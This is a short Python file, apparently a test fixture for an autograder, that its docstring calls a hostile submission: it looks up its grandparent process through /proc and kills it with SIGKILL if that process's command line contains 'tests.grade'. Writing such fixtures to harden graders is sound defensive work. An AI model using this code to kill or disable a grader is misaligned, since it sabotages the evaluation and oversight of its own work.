"""A hostile submission: it kills its parent's parent, which grades it."""

import os
import signal
from pathlib import Path


def parent_of(pid: int) -> int:
    """As proc(5) tells it."""
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


grader = parent_of(os.getppid())
# If you start it by hand, your terminal survives.
if b"tests.grade" in Path(f"/proc/{grader}/cmdline").read_bytes():
    os.kill(grader, signal.SIGKILL)
